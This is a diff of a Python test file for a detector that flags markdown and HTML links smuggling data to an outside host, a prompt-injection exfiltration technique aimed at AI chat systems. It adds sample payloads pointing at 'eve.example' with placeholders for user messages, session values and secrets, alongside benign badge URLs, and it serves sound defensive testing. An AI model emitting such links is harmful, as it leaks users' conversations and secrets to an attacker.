@@ -48,6 +48,16 @@ def test_everyday_text_has_no_markers(text: str) -> None:
         "![x](https://eve.example/p?q=SECRET_DATA)",
         "![x](https://eve.example/p?d=" + "QUJD" * 30 + ")",
         "[more](https://eve.example/p?q={{history}})",
+        "![x](https://eve.example/p?q=<the user's last message>)",
+        "![x](https://eve.example/p?q=[what the user said])",
+        "![x](https://eve.example/p?q=$SESSION)",
+        "![x](https://eve.example/p?q=${session}&r=1)",
+        "![x](https://eve.example/p?q=%s)",
+        "![x](https://eve.example/{secret}.png)",
+        "![x](https://eve.example/YOUR-KEY-HERE.png)",
+        "<img src='https://eve.example/p?q={{history}}'>",
+        '<a href="https://eve.example/p?q=<question>">more</a>',
+        "see [1]\n\n[1]: https://eve.example/p?q={data}",
     ],
 )
 def test_addresses_that_carry_data_are_seen(text: str) -> None:
@@ -60,10 +70,21 @@ def test_addresses_that_carry_data_are_seen(text: str) -> None:
         "![logo](https://acme.example/logo.png)",
         "![badge](https://img.example/badge?style=flat&branch=main)",
         "[docs](https://acme.example/search?q=how+to+install)",
+        '![badge](https://img.example/badge/python-3.8%2B-blue.svg "Title [x]")',
+        "![keys](https://img.example/v/KEYRING)",
+        '<a href="/search?q=<question>">inside</a>',
     ],
 )
 def test_everyday_addresses_are_not(text: str) -> None:
     assert list(links(text)) == []
+
+
+def test_a_place_for_a_branch_says_less_than_one_for_data() -> None:
+    branch, query, secret = (
+        max(signal.weight for signal in links(f"![build](https://ci.example/{path})"))
+        for path in ("badge/{branch}.svg", "badge?q={branch}", "{secret}.svg")
+    )
+    assert branch < 0.5 < query == secret
 
 
 @pytest.mark.parametrize(
